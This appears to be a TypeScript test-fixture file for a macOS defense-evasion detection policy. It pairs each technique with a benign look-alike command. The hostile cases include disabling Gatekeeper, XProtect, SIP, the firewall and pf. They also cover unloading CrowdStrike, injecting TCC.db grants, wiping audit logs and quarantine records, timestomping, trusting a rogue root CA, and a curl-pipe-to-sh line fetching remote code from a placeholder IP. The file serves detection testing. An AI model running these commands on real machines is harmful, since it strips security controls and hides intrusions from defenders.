/** macOS defense evasion (T1562, T1553, T1070, T1036, T1564, T1140) (policies/macos/defense_evasion_procedures.toml). */
import { run, runArgv, runDoing, sc, type Scenario } from "../scenario.ts";

export const MACOS_DEFENSE_EVASION: Scenario[] = [
  sc(
    "gatekeeper_autorearm_off",
    "mac_root",
    [run(
      "/usr/bin/defaults",
      "write",
      "/Library/Preferences/com.apple.security",
      "GKAutoRearm",
      "-bool",
      "false",
    )],
    [run("/usr/bin/defaults", "read", "/Library/Preferences/com.apple.security")],
  ),
  sc(
    "spctl_allow_untrusted_path",
    "mac_user",
    [run("/usr/sbin/spctl", "--add", "--label", "Approved", "/Users/alice/Downloads/Player.app")],
    [run("/usr/sbin/spctl", "--assess", "-vv", "/Users/alice/Downloads/Player.app")],
  ),
  sc(
    "xprotect_tamper_cmd",
    "mac_root",
    [run(
      "/bin/launchctl",
      "bootout",
      "system",
      "/Library/Apple/System/Library/LaunchDaemons/com.apple.XProtect.daemon.scan.plist",
    )],
    [
      run("/bin/launchctl", "print", "system/com.apple.XProtect.daemon.scan"),
      run(
        "/usr/bin/defaults",
        "read",
        "/Library/Apple/System/Library/CoreServices/XProtect.bundle/Contents/Info.plist",
        "CFBundleShortVersionString",
      ),
    ],
  ),
  sc(
    "xprotect_files_removed",
    "mac_root",
    [runDoing("/bin/rm", [
      "rm",
      "-rf",
      "/Library/Apple/System/Library/CoreServices/XProtect.bundle",
    ], [{
      unlink:
        "/Library/Apple/System/Library/CoreServices/XProtect.bundle/Contents/Resources/XProtect.yara",
    }])],
    [runDoing("/usr/libexec/system_installd", ["system_installd"], [{
      unlink:
        "/Library/Apple/System/Library/CoreServices/XProtect.bundle/Contents/Resources/XProtect.yara",
    }])],
  ),
  sc(
    "application_firewall_off",
    "mac_root",
    [run("/usr/libexec/ApplicationFirewall/socketfilterfw", "--setglobalstate", "off")],
    [
      run("/usr/libexec/ApplicationFirewall/socketfilterfw", "--getglobalstate"),
      run("/usr/libexec/ApplicationFirewall/socketfilterfw", "--setglobalstate", "on"),
    ],
  ),
  sc(
    "firewall_allow_untrusted",
    "mac_root",
    [run(
      "/usr/libexec/ApplicationFirewall/socketfilterfw",
      "--add",
      "/Users/Shared/.svc/listener",
    )],
    [run(
      "/usr/libexec/ApplicationFirewall/socketfilterfw",
      "--add",
      "/Applications/Docker.app/Contents/MacOS/com.docker.backend",
    )],
  ),
  sc(
    "pf_disable",
    "mac_root",
    [run("/sbin/pfctl", "-d")],
    [run("/sbin/pfctl", "-s", "info"), run("/sbin/pfctl", "-sr")],
  ),
  sc(
    "security_agent_unload",
    "mac_root",
    [run("/bin/launchctl", "bootout", "system/com.crowdstrike.falcond")],
    [
      run("/bin/launchctl", "print", "system/com.crowdstrike.falcond"),
      run("/bin/launchctl", "bootout", "system/com.example.oldsync"),
    ],
  ),
  sc(
    "security_agent_kill",
    "mac_root",
    [run("/usr/bin/killall", "-9", "LuLu", "BlockBlock")],
    [run("/usr/bin/killall", "Dock"), run("/usr/bin/pkill", "-f", "webpack")],
  ),
  sc(
    "sip_disable",
    "mac_root",
    [run("/usr/bin/csrutil", "disable")],
    [run("/usr/bin/csrutil", "status")],
  ),
  sc(
    "tcc_reset_all",
    "mac_app",
    [run("/usr/bin/tccutil", "reset", "All")],
    [run("/usr/bin/tccutil", "reset", "Camera", "com.example.videoapp")],
    "mac_user",
  ),
  sc(
    "tcc_db_modify",
    "mac_user",
    [run(
      "/usr/bin/sqlite3",
      "/Users/alice/Library/Application Support/com.apple.TCC/TCC.db",
      "INSERT INTO access VALUES('kTCCServiceScreenCapture','com.player.helper',0,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,1700000000);",
    )],
    [run(
      "/usr/bin/sqlite3",
      "/Users/alice/Library/Application Support/com.apple.TCC/TCC.db",
      "SELECT service, client FROM access;",
    )],
  ),
  sc(
    "quarantine_events_cleared",
    "mac_user",
    [run(
      "/usr/bin/sqlite3",
      "/Users/alice/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2",
      "DELETE FROM LSQuarantineEvent",
    )],
    [run(
      "/usr/bin/sqlite3",
      "/Users/alice/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2",
      "SELECT LSQuarantineDataURLString FROM LSQuarantineEvent",
    )],
  ),
  sc(
    "setfile_invisible",
    "mac_user",
    [run("/usr/bin/SetFile", "-a", "V", "/Users/alice/Library/Application Support/.agent")],
    [run("/usr/bin/SetFile", "-a", "v", "/Users/alice/Desktop/notes.txt")],
  ),
  sc(
    "unified_log_silenced",
    "mac_root",
    [run("/usr/bin/log", "config", "--mode", "level:off")],
    [run("/usr/bin/log", "config", "--status"), run("/usr/bin/log", "show", "--last", "1h")],
  ),
  sc(
    "logging_daemon_stop",
    "mac_root",
    [run("/bin/launchctl", "unload", "/System/Library/LaunchDaemons/com.apple.auditd.plist")],
    [run("/bin/launchctl", "print", "system/com.apple.auditd"), run("/usr/sbin/audit", "-s")],
  ),
  sc(
    "log_folder_removed_cmd",
    "mac_root",
    [run("/bin/rm", "-rf", "/private/var/audit", "/private/var/db/diagnostics")],
    [run("/bin/rm", "-f", "/private/var/log/myapp/old.log")],
  ),
  sc(
    "history_disabled_cmd",
    "mac_app",
    [run("/bin/zsh", "-c", "unset HISTFILE; export SAVEHIST=0; curl -s http://203.0.113.9/x | sh")],
    [run("/bin/zsh", "-c", "echo $HISTFILE; wc -l ~/.zsh_history")],
  ),
  sc(
    "history_linked_to_null",
    "mac_user",
    [run("/bin/ln", "-sf", "/dev/null", "/Users/alice/.zsh_history")],
    [run("/bin/ln", "-sf", "/Users/alice/dotfiles/zshrc", "/Users/alice/.zshrc")],
  ),
  sc(
    "setfile_timestomp",
    "mac_user",
    [run(
      "/usr/bin/SetFile",
      "-d",
      "01/01/2019 10:00:00",
      "/Users/alice/Library/LaunchAgents/com.player.helper.plist",
    )],
    [run("/usr/bin/GetFileInfo", "/Users/alice/Desktop/notes.txt")],
  ),
  sc(
    "secure_delete_tool",
    "mac_app",
    [run("/usr/local/bin/srm", "-rf", "/Users/alice/Library/Application Support/.player")],
    [run("/bin/rm", "-rf", "/Users/alice/src/app/build")],
    "mac_user",
  ),
  sc(
    "apple_daemon_name_outside_system",
    "mac_user",
    [runArgv("/Users/Shared/.local/mdworker", [
      "mdworker",
      "-s",
      "mdworker",
      "-c",
      "MDSImporterWorker",
    ])],
    [runArgv(
      "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
      ["mdworker_shared", "-s", "mdworker"],
    )],
  ),
  sc(
    "root_certificate_trusted",
    "mac_root",
    [run(
      "/usr/bin/security",
      "add-trusted-cert",
      "-d",
      "-r",
      "trustRoot",
      "-k",
      "/Library/Keychains/System.keychain",
      "/tmp/ca.crt",
    )],
    [
      run("/usr/bin/security", "verify-cert", "-c", "/tmp/ca.crt"),
      run("/usr/bin/security", "find-certificate", "-c", "Example CA"),
    ],
  ),
  sc(
    "decode_to_temp_file",
    "mac_app",
    [run(
      "/usr/bin/base64",
      "-D",
      "-i",
      "/private/var/folders/zz/T/p.txt",
      "-o",
      "/Users/Shared/.svc/agent",
    )],
    [run("/usr/bin/base64", "-D", "-i", "cert.b64", "-o", "/Users/alice/Documents/cert.der")],
    "mac_user",
  ),
];
